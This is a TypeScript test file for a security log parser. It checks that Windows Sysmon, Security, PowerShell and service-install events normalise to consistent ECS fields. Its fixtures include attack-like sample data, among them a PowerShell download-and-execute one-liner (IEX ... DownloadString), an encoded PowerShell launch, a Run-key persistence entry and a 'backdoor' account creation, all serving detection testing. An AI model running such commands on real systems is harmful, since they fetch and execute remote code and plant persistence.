// The same Windows events in each shipping shape must normalise to the same ECS; plus the
// Security and PowerShell mappings a detection rule relies on.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { type EcsEvent, getPath } from '../../../core/ecs.ts';
import { getParser } from '../index.ts';
import type { ParseResult, RawRecord } from '../types.ts';
import { parseForwarded } from './forwarded.ts';
import { powershellOperationalParser, powershellParser } from './powershell.ts';
import { parseSecurity } from './security.ts';
import { parseSysmon } from './sysmon.ts';

const receivedAt = new Date('2024-06-20T00:00:00Z');
function ok(r: ParseResult): EcsEvent {
  if (!r.ok) throw r.error;
  return r.events[0];
}
const line = (doc: unknown): RawRecord => ({ message: JSON.stringify(doc), receivedAt, source: 'test' });

const DATA = {
  RuleName: '-',
  UtcTime: '2024-06-18 10:00:00.123',
  ProcessGuid: '{b34bc01c-34db-5f69-7701-000000000900}',
  ProcessId: '4242',
  Image: 'C:\\Windows\\System32\\net.exe',
  CommandLine: '"C:\\Windows\\system32\\net.exe" localgroup Administrators',
  CurrentDirectory: 'C:\\Windows\\system32\\',
  User: 'CORP\\alice',
  Hashes: 'SHA1=5B9EA3C45A11D4AEB1B1AC0F72C4C19308FC7D0B,MD5=A63DF9A6E9098CC189F2A3EFC37600F6',
  ParentProcessId: '7456',
  ParentImage: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  ParentCommandLine: 'powershell.exe -nop',
};

const shapes: Record<string, RawRecord> = {
  winlogbeat: {
    message: 'Process Create',
    receivedAt,
    source: 'test',
    document: {
      '@timestamp': '2024-06-18T10:00:00.200Z',
      winlog: {
        channel: 'Microsoft-Windows-Sysmon/Operational',
        event_id: '1',
        provider_name: 'Microsoft-Windows-Sysmon',
        computer_name: 'ws1.corp.local',
        record_id: 99,
        user: { identifier: 'S-1-5-18' },
        event_data: DATA,
      },
    },
  },
  evtx_dump: line({
    Event: {
      '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
      System: {
        Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon', Guid: '5770385F-C22A-43E0-BF4C-06F5698FFBD9' } },
        EventID: 1,
        TimeCreated: { '#attributes': { SystemTime: '2024-06-18T10:00:00.200000Z' } },
        EventRecordID: 99,
        Execution: { '#attributes': { ProcessID: 3172, ThreadID: 4048 } },
        Channel: 'Microsoft-Windows-Sysmon/Operational',
        Computer: 'ws1.corp.local',
        Security: { '#attributes': { UserID: 'S-1-5-18' } },
      },
      EventData: DATA,
    },
  }),
  nxlog: line({
    EventTime: '2024-06-18 12:00:00',
    Hostname: 'ws1.corp.local',
    EventID: 1,
    SourceName: 'Microsoft-Windows-Sysmon',
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    RecordNumber: 99,
    UserID: 'S-1-5-18',
    Category: 'Process Create (rule: ProcessCreate)',
    '@timestamp': '2024-06-18T10:00:01.000Z',
    ...DATA,
  }),
  xml: {
    message: `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/><EventID>1</EventID><TimeCreated SystemTime='2024-06-18T10:00:00.200Z'/><EventRecordID>99</EventRecordID><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>ws1.corp.local</Computer><Security UserID='S-1-5-18'/></System><EventData>${Object.entries(
      DATA,
    )
      .map(([k, v]) => `<Data Name='${k}'>${v.replace(/&/g, '&amp;').replace(/"/g, '&quot;')}</Data>`)
      .join('')}</EventData></Event>`,
    receivedAt,
    source: 'test',
  },
};

const COMPARED = [
  '@timestamp', 'event.code', 'event.category', 'event.type', 'event.action', 'winlog.channel', 'winlog.event_id',
  'winlog.record_id', 'host.name', 'user.name', 'user.domain', 'user.id', 'process.pid', 'process.name',
  'process.executable', 'process.command_line', 'process.args', 'process.entity_id', 'process.parent.pid',
  'process.parent.name', 'process.hash.sha1', 'process.working_directory',
];

describe('Windows event shapes', () => {
  const docs = Object.fromEntries(Object.entries(shapes).map(([k, raw]) => [k, ok(parseSysmon(raw))]));

  it('gives the expected ECS for a Sysmon process creation', () => {
    const d = docs.winlogbeat;
    expect(getPath(d, '@timestamp')).toBe('2024-06-18T10:00:00.123Z');
    expect(getPath(d, 'event.category')).toEqual(['process']);
    expect(getPath(d, 'event.type')).toEqual(['start']);
    expect(getPath(d, 'user.name')).toBe('alice');
    expect(getPath(d, 'user.domain')).toBe('CORP');
    expect(getPath(d, 'process.pid')).toBe(4242);
    expect(getPath(d, 'process.name')).toBe('net.exe');
    expect(getPath(d, 'process.args')).toEqual(['C:\\Windows\\system32\\net.exe', 'localgroup', 'Administrators']);
    expect(getPath(d, 'process.parent.name')).toBe('powershell.exe');
    expect(getPath(d, 'process.hash.md5')).toBe('a63df9a6e9098cc189f2a3efc37600f6');
  });

  for (const shape of ['evtx_dump', 'nxlog', 'xml']) {
    it(`${shape} gives the same fields as the Winlogbeat shape`, () => {
      for (const field of COMPARED) {
        expect(getPath(docs[shape], field), `${shape} ${field}`).toEqual(getPath(docs.winlogbeat, field));
      }
    });
  }

  it('maps Sysmon network, registry and DNS events', () => {
    const net = ok(parseSysmon(line({ Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 3, Hostname: 'ws1', Image: 'C:\\x\\a.exe', Protocol: 'tcp', Initiated: 'true', SourceIsIpv6: 'false', SourceIp: '10.0.0.5', SourcePort: '50000', DestinationIp: '93.184.216.34', DestinationPort: '443', DestinationHostname: 'example.com', UtcTime: '2024-06-18 10:00:00.000' })));
    expect(getPath(net, 'destination.ip')).toBe('93.184.216.34');
    expect(getPath(net, 'destination.port')).toBe(443);
    expect(getPath(net, 'network.direction')).toBe('egress');
    expect(getPath(net, 'network.transport')).toBe('tcp');
    const reg = ok(parseSysmon(line({ Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 13, Image: 'C:\\x\\a.exe', TargetObject: 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\evil', Details: 'C:\\evil.exe', EventType: 'SetValue' })));
    expect(getPath(reg, 'registry.hive')).toBe('HKU');
    expect(getPath(reg, 'registry.value')).toBe('evil');
    expect(getPath(reg, 'registry.data.strings')).toEqual(['C:\\evil.exe']);
    const dns = ok(parseSysmon(line({ Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 22, QueryName: 'evil.example.com', QueryStatus: '0', QueryResults: 'type:  5 cdn.example.net;::ffff:203.0.113.9;', Image: 'C:\\x\\a.exe' })));
    expect(getPath(dns, 'dns.question.name')).toBe('evil.example.com');
    expect(getPath(dns, 'dns.resolved_ip')).toEqual(['203.0.113.9']);
  });
});

describe('Security channel', () => {
  const sec = (eventId: number, data: Record<string, string>) =>
    ok(parseSecurity(line({ Channel: 'Security', EventID: eventId, Hostname: 'dc1.corp.local', SourceName: 'Microsoft-Windows-Security-Auditing', ...data })));

  it('maps successful and failed logons to the account that logged on', () => {
    const okLogon = sec(4624, { SubjectUserName: '-', TargetUserName: 'alice', TargetDomainName: 'CORP', TargetUserSid: 'S-1-5-21-1-1001', LogonType: '10', IpAddress: '198.51.100.7', IpPort: '50123', WorkstationName: 'LAPTOP1' });
    expect(getPath(okLogon, 'event.action')).toBe('logged-in');
    expect(getPath(okLogon, 'event.outcome')).toBe('success');
    expect(getPath(okLogon, 'event.category')).toEqual(['authentication']);
    expect(getPath(okLogon, 'user.name')).toBe('alice');
    expect(getPath(okLogon, 'winlog.logon.type')).toBe('RemoteInteractive');
    expect(getPath(okLogon, 'source.ip')).toBe('198.51.100.7');
    const failed = sec(4625, { TargetUserName: 'bob', TargetDomainName: 'CORP', LogonType: '3', IpAddress: '198.51.100.8', Status: '0xc000006d', SubStatus: '0xc000006a' });
    expect(getPath(failed, 'event.outcome')).toBe('failure');
    expect(getPath(failed, 'winlog.logon.failure.sub_status')).toBe('0xc000006a');
  });

  it('maps process creation and account/group management', () => {
    const proc = sec(4688, { SubjectUserName: 'alice', SubjectDomainName: 'CORP', NewProcessId: '0x1890', NewProcessName: 'C:\\Windows\\System32\\schtasks.exe', CommandLine: 'schtasks /Create /TN x', ProcessId: '0x1c90', ParentProcessName: 'C:\\Windows\\explorer.exe' });
    expect(getPath(proc, 'process.pid')).toBe(0x1890);
    expect(getPath(proc, 'process.name')).toBe('schtasks.exe');
    expect(getPath(proc, 'process.parent.pid')).toBe(0x1c90);
    expect(getPath(proc, 'user.name')).toBe('alice');
    const created = sec(4720, { SubjectUserName: 'admin', TargetUserName: 'backdoor', TargetDomainName: 'CORP' });
    expect(getPath(created, 'event.action')).toBe('added-user-account');
    expect(getPath(created, 'user.name')).toBe('admin');
    expect(getPath(created, 'user.target.name')).toBe('backdoor');
    const added = sec(4732, { SubjectUserName: 'admin', TargetUserName: 'Administrators', MemberName: 'CN=Eve,OU=Users,DC=corp,DC=local', MemberSid: 'S-1-5-21-1-1105' });
    expect(getPath(added, 'group.name')).toBe('Administrators');
    expect(getPath(added, 'user.target.name')).toBe('Eve');
  });
});

describe('PowerShell channels', () => {
  it('maps 4104 script blocks', () => {
    const d = ok(powershellOperationalParser.parse(line({ Channel: 'Microsoft-Windows-PowerShell/Operational', EventID: 4104, Hostname: 'ws1', MessageNumber: '1', MessageTotal: '1', ScriptBlockText: 'IEX (New-Object Net.WebClient).DownloadString("http://x")', ScriptBlockId: 'abc', Path: 'C:\\tmp\\a.ps1' })));
    expect(getPath(d, 'event.category')).toEqual(['process']);
    expect(getPath(d, 'powershell.file.script_block_text')).toContain('DownloadString');
    expect(getPath(d, 'file.name')).toBe('a.ps1');
  });

  it('maps classic 800 events from the context lines', () => {
    const d = ok(
      powershellParser.parse(
        line({
          log_name: 'Windows PowerShell',
          event_id: 800,
          computer_name: 'HR001.shire.com',
          source_name: 'PowerShell',
          event_data: {
            param1: 'Start-Sleep -Seconds 5',
            param2: '\tDetailSequence=1\n\tDetailTotal=1\n\tSequenceNumber=41524\n\tUserId=SHIRE\\nmartha\n\tHostName=ConsoleHost\n\tHostApplication=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -noP -enc AAA',
            param3: 'CommandInvocation(Start-Sleep): "Start-Sleep"\nParameterBinding(Start-Sleep): name="Seconds"; value="5"',
          },
        }),
      ),
    );
    expect(getPath(d, 'user.name')).toBe('nmartha');
    expect(getPath(d, 'process.name')).toBe('powershell.exe');
    expect(getPath(d, 'process.args')).toContain('-enc');
    expect(getPath(d, 'powershell.command.invocation_details')).toHaveLength(2);
  });
});

describe('NXLog event time', () => {
  it('reads EventTime in the configured zone and falls back to the shipper stamp without one', () => {
    const doc = { Channel: 'Security', EventID: 4634, Hostname: 'dc1', EventTime: '2020-09-21 19:18:41', '@timestamp': '2020-09-21T23:18:44.265Z', TargetUserName: 'bob' };
    const zoned = ok(parseSecurity({ ...line(doc), tz: 'America/New_York' }));
    expect(getPath(zoned, '@timestamp')).toBe('2020-09-21T23:18:41.000Z');
    expect(getPath(ok(parseSecurity(line(doc))), '@timestamp')).toBe('2020-09-21T23:18:44.265Z');
  });
});

describe('Other channels', () => {
  it('names a System 7045 service installation and keeps its event data', () => {
    const d = ok(parseForwarded(line({ Channel: 'System', EventID: 7045, Hostname: 'dc1', SourceName: 'Service Control Manager', ServiceName: 'PSEXESVC', ImagePath: '%SystemRoot%\\PSEXESVC.exe', ServiceType: 'user mode service', StartType: 'demand start', AccountName: 'LocalSystem' })));
    expect(getPath(d, 'event.dataset')).toBe('windows.forwarded');
    expect(getPath(d, 'event.action')).toBe('service-installed');
    expect(getPath(d, 'service.name')).toBe('PSEXESVC');
    expect(getPath(d, 'winlog.event_data.StartType')).toBe('demand start');
    expect(getPath(d, 'winlog.channel')).toBe('System');
  });
});

describe('Mordor Windows events', () => {
  it('parses every event (NXLog and Winlogbeat 6 shapes) with its channel, event id and a timestamp', () => {
    const lines = gunzipSync(readFileSync(join(import.meta.dirname, '../../../../shared/datasets/mordor-windows/events.ndjson.gz')))
      .toString('utf8')
      .split('\n')
      .filter(Boolean);
    const byDataset: Record<string, number> = {};
    for (const message of lines) {
      const doc = JSON.parse(message) as Record<string, unknown>;
      const channel = String(doc.Channel ?? doc.log_name ?? '').toLowerCase();
      const dataset =
        { 'microsoft-windows-sysmon/operational': 'windows.sysmon_operational', security: 'system.security', 'windows powershell': 'windows.powershell', 'microsoft-windows-powershell/operational': 'windows.powershell_operational' }[channel] ??
        'windows.forwarded';
      const e = ok(getParser(dataset)?.parse({ message, receivedAt, source: 'mordor' }) as ParseResult);
      expect(getPath(e, 'event.code')).toBe(String(doc.EventID ?? doc.event_id));
      expect(String(getPath(e, 'winlog.channel')).toLowerCase()).toBe(channel);
      expect(Number.isNaN(Date.parse(String(getPath(e, '@timestamp'))))).toBe(false);
      byDataset[dataset] = (byDataset[dataset] ?? 0) + 1;
    }
    expect(Object.values(byDataset).reduce((a, b) => a + b, 0)).toBe(lines.length);
    expect(byDataset['system.security']).toBeGreaterThan(10_000);
  });
});
